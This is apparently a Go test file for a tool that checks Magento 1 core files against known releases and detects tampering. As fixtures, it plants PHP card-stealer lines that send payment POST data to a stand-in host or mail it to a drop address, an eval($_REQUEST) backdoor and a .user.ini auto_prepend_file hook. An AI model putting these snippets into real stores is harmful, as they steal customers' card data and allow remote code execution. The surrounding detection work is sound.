package m1core

import (
	"context"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

const (
	payment  = "app/code/core/Mage/Payment/Model/Method/Cc.php"
	onepage  = "app/code/core/Mage/Checkout/controllers/OnepageController.php"
	patched  = "app/code/core/Mage/Customer/controllers/AccountController.php"
	stealer  = `$c = base64_encode(serialize(Mage::app()->getRequest()->getPost('payment'))); @file_get_contents('https://cdn-stat.example/p?d=' . $c);`
	stealer2 = `if (isset($_POST['payment'])) { @mail('drop@example.net', 'cc', json_encode($_POST)); }`
)

// releases builds two synthetic releases: "1.9.4.4" and "1.9.4.5", which
// changes one controller (as a SUPEE patch would) and two more files.
func releases() map[string]map[string]string {
	a := synthRelease(600, 1)
	a[payment] = "<?php\nclass Mage_Payment_Model_Method_Cc\n{\n    public function validate()\n    {\n        return $this;\n    }\n}\n"
	a[onepage] = "<?php\nclass Mage_Checkout_OnepageController\n{\n    public function saveOrderAction()\n    {\n    }\n}\n"
	a[patched] = "<?php\nclass Mage_Customer_AccountController\n{\n    public function loginPostAction()\n    {\n    }\n}\n"
	b := maps.Clone(a)
	b[patched] = strings.Replace(a[patched], "    {\n    }", "    {\n        $this->_validateFormKey();\n    }", 1)
	n := 0
	for p := range a {
		if strings.HasPrefix(p, "lib/Varien/") && n < 2 {
			b[p] += "// 1.9.4.5\n"
			n++
		}
	}
	return map[string]map[string]string{"1.9.4.4": a, "1.9.4.5": b}
}

// TestCheckUnknownContentIsUnverified: a release file whose content the
// manifests lack (a blob absent from the mirror) is neither added nor
// modified, and a store without it misses it.
func TestCheckUnknownContentIsUnverified(t *testing.T) {
	rel := synthRelease(200, 5)
	b := NewBuilder(nil)
	var fs []File
	for p, c := range rel {
		fs = append(fs, NewFile(p, []byte(c)))
	}
	const phar = "lib/Zend/Service/WindowsAzure/CommandLine/Scaffolders/DefaultScaffolder.phar"
	if err := b.AddVersion("1.9.4.5", append(fs, NewUnknown(phar))); err != nil {
		t.Fatal(err)
	}
	ix, err := b.Index()
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	writeTree(t, root, rel)
	res := check(t, ix, root)
	if res.Status != StatusModified || !slices.Equal(res.Missing, []string{phar}) || res.Matched != len(rel) || res.VersionFiles != len(rel) {
		t.Fatalf("without the file: %s missing %v", res.Summary(), res.Missing)
	}
	writeTree(t, root, map[string]string{phar: "PK\x03\x04 some archive"})
	res = check(t, ix, root)
	if res.Status != StatusClean || !slices.Equal(res.Unverified, []string{phar}) || len(res.Added)+len(res.Modified) != 0 {
		t.Fatalf("with the file: %s", res.Summary())
	}
}

func check(t *testing.T, ix *Index, root string) *Result {
	t.Helper()
	res, err := Check(context.Background(), root, Options{Index: ix, Workers: 2})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestCheckPristineTreeIsClean(t *testing.T) {
	rels := releases()
	ix := buildIndex(t, rels, "1.9.4.4", "1.9.4.5")
	root := t.TempDir()
	writeTree(t, root, rels["1.9.4.4"])
	res := check(t, ix, root)
	if res.Status != StatusClean || len(res.Modified)+len(res.Added)+len(res.Missing)+len(res.Known) != 0 {
		t.Fatalf("pristine tree: %s", res.Summary())
	}
	if res.Version != "1.9.4.4" || res.Matched != len(rels["1.9.4.4"]) {
		t.Fatalf("version %q matched %d, want 1.9.4.4 with all %d", res.Version, res.Matched, len(rels["1.9.4.4"]))
	}
	// app/Mage.php of the synthetic tree says 1.9.4.5 (both releases
	// share it), the files say 1.9.4.4: the files win, and it is said.
	if res.Claimed != "1.9.4.5" || res.Confirmed {
		t.Fatalf("claimed %q confirmed %v", res.Claimed, res.Confirmed)
	}
}

// TestCheckFindsStealers plants what the issue saw missed: card stealers
// appended to core files, a backdoor added to a core module, a deleted
// file, a core file replaced by a link; and what must not be flagged: a
// patch that equals another release, an extension's own js file.
func TestCheckFindsStealers(t *testing.T) {
	rels := releases()
	ix := buildIndex(t, rels, "1.9.4.4", "1.9.4.5")
	root := t.TempDir()
	store := maps.Clone(rels["1.9.4.4"])
	store[payment] += stealer + "\n"
	store[onepage] = strings.Replace(store[onepage], "    {\n    }", "    {\n        "+stealer2+"\n    }", 1)
	store[patched] = rels["1.9.4.5"][patched] // SUPEE-style patch: known
	store["app/code/core/Mage/Core/Model/Session/Abstract/Lib.php"] = "<?php eval($_REQUEST['x']);\n"
	store["js/myextension/slider.js"] = "var s = 1;\n" // extension file, not core
	store["errors/local.xml"] = "<config/>\n"          // the store's own error-page config
	store[".user.ini"] = "auto_prepend_file = media/.p.gif\n"
	var gone, css, linked string
	for _, p := range slices.Sorted(maps.Keys(store)) {
		if strings.HasPrefix(p, "app/code/core/Mage/Cms/") && linked == "" {
			linked = p
		}
		if strings.HasPrefix(p, "js/") && p != "js/myextension/slider.js" && gone == "" {
			gone = p
		}
		if strings.HasSuffix(p, ".css") && css == "" {
			css = p
		}
	}
	delete(store, gone)
	delete(store, linked)
	store[css] += "body{background:url(//x.example/a.png)}\n"
	writeTree(t, root, store)
	secret := filepath.Join(t.TempDir(), "secret.php")
	if err := os.WriteFile(secret, []byte("<?php // SECRET-NOT-READ\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, filepath.Join(root, linked)); err != nil {
		t.Fatal(err)
	}

	res := check(t, ix, root)
	if res.Status != StatusModified || res.Version != "1.9.4.4" {
		t.Fatalf("status %s version %s", res.Status, res.Version)
	}
	mod := map[string]Change{}
	for _, c := range res.Modified {
		mod[c.Path] = c
	}
	wantForeign(t, mod[payment], 9, stealer)
	wantForeign(t, mod[onepage], 6, stealer2)
	if c, ok := mod[css]; !ok || c.Code || c.Lines {
		t.Errorf("modified css %s: %+v", css, c)
	}
	if c, ok := mod[linked]; !ok || !c.Symlink || len(c.Foreign) != 0 {
		t.Errorf("core file replaced by a link: %+v", c)
	}
	if len(res.Modified) != 4 {
		t.Errorf("modified: %v", paths(res.Modified))
	}
	if !slices.Equal(res.Known, []string{patched}) {
		t.Errorf("known = %v, want the patched %s", res.Known, patched)
	}
	if got := paths(res.Added); len(got) != 2 || got[0] != ".user.ini" || !strings.HasSuffix(got[1], "Abstract/Lib.php") {
		t.Errorf("added = %v", got)
	} else if len(res.Added[0].Foreign) == 0 || len(res.Added[1].Foreign) == 0 || !strings.Contains(res.Added[1].Foreign[0].Text, "eval($_REQUEST") || !res.Added[0].Code ||
		res.Added[0].Foreign[0].Text != "auto_prepend_file = media/.p.gif" {
		t.Errorf("added files' lines: %+v", res.Added)
	}
	if res.AddedOther != 1 || !slices.Equal(res.Missing, []string{gone}) {
		t.Errorf("added elsewhere %d, missing %v (want 1, [%s])", res.AddedOther, res.Missing, gone)
	}
}

func wantForeign(t *testing.T, c Change, line int, text string) {
	t.Helper()
	if c.Path == "" {
		t.Fatalf("stealer not reported (want line %d)", line)
	}
	if c.ForeignLines != 1 || len(c.Foreign) != 1 || c.Foreign[0].N != line || c.Foreign[0].Text != text {
		t.Fatalf("%s: foreign lines %d %+v, want line %d %q", c.Path, c.ForeignLines, c.Foreign, line, text)
	}
}

func paths(cs []Change) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Path)
	}
	return out
}

func TestCheckUnknownVersionListsNothing(t *testing.T) {
	rels := releases()
	ix := buildIndex(t, rels, "1.9.4.4", "1.9.4.5")
	root := t.TempDir()
	other := synthRelease(600, 77) // same layout, other content: an unknown release
	writeTree(t, root, other)
	res := check(t, ix, root)
	if res.Status != StatusUnknownVersion || len(res.Modified)+len(res.Added)+len(res.Missing) != 0 {
		t.Fatalf("unknown release: %s", res.Summary())
	}
	if !strings.Contains(res.Summary(), "not identified") {
		t.Fatalf("summary does not say so: %s", res.Summary())
	}
}

func TestCheckDoesNotWalkOutsideScope(t *testing.T) {
	rels := releases()
	ix := buildIndex(t, rels, "1.9.4.4")
	root := t.TempDir()
	writeTree(t, root, rels["1.9.4.4"])
	// app/code/local and media are not core; a link to / must not be walked.
	writeTree(t, root, map[string]string{"app/code/local/X/Y.php": "<?php\n", "media/a.php": "<?php\n"})
	if err := os.Symlink("/", filepath.Join(root, "lib", "rootfs")); err != nil {
		t.Fatal(err)
	}
	res := check(t, ix, root)
	if res.Files != len(rels["1.9.4.4"])+1 || res.AddedOther != 1 || len(res.Modified) != 0 {
		t.Fatalf("files %d added elsewhere %d modified %v", res.Files, res.AddedOther, paths(res.Modified))
	}
}
